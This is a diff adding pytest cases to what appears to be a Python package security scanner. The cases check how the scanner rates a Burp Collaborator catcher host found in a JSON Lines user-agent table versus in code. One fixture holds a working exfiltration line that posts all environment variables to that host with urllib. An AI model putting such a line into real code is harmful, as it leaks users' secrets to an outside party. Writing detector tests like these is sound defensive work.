@@ -580,3 +580,37 @@ def test_a_loopback_lookalike_host_stays_an_exfiltration(tmp_path):
     code = LOCAL_PROXY.replace(b"http://127.0.0.1:{port}", b"https://localhost.example.invalid")
     res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/wrap.py": code})
     assert res.risk.level in HIGH
+
+
+# ------------------------------------------------------------ JSON Lines data files
+
+
+def _records(extra: str) -> bytes:
+    rows = [
+        '{"user_agent": "Mozilla/5.0 (X11; Linux x86_64) Firefox/%d.0", "os": "linux"}' % v
+        for v in range(50, 120)
+    ]
+    rows.insert(30, '{"user_agent": "Mozilla/5.0 Chrome/55.0 %s", "os": "windows"}' % extra)
+    return ("\n".join(rows) + "\n").encode()
+
+
+def test_a_catcher_host_inside_a_record_of_a_json_lines_table_is_data(tmp_path):
+    """A table of scraped user agents kept as JSON Lines holds one agent string a scanner
+    probe left with an out-of-band catcher's host: a record the library hands out, read by
+    no interpreter."""
+    extra = "root@1jl3s4g67qq6by29do8h.burpcollaborator.net"
+    res = _wheel(tmp_path, {"gizmo/data/user_agents.jsonl": _records(extra)})
+    ends = [h for h in res.findings if h.capability == "net.exfil_endpoint"]
+    assert ends  # still shown
+    assert "chain.exfil_endpoint" not in _ids(res)
+    assert res.risk.level not in HIGH
+
+
+def test_the_same_catcher_host_in_code_that_sends_to_it_stays_high(tmp_path):
+    code = (
+        b"import os, urllib.request\n"
+        b"urllib.request.urlopen('http://1jl3s4g67qq6by29do8h.burpcollaborator.net/x',\n"
+        b"                       data=repr(dict(os.environ)).encode())\n"
+    )
+    res = _wheel(tmp_path, {"gizmo/__init__.py": code})
+    assert res.risk.level in HIGH
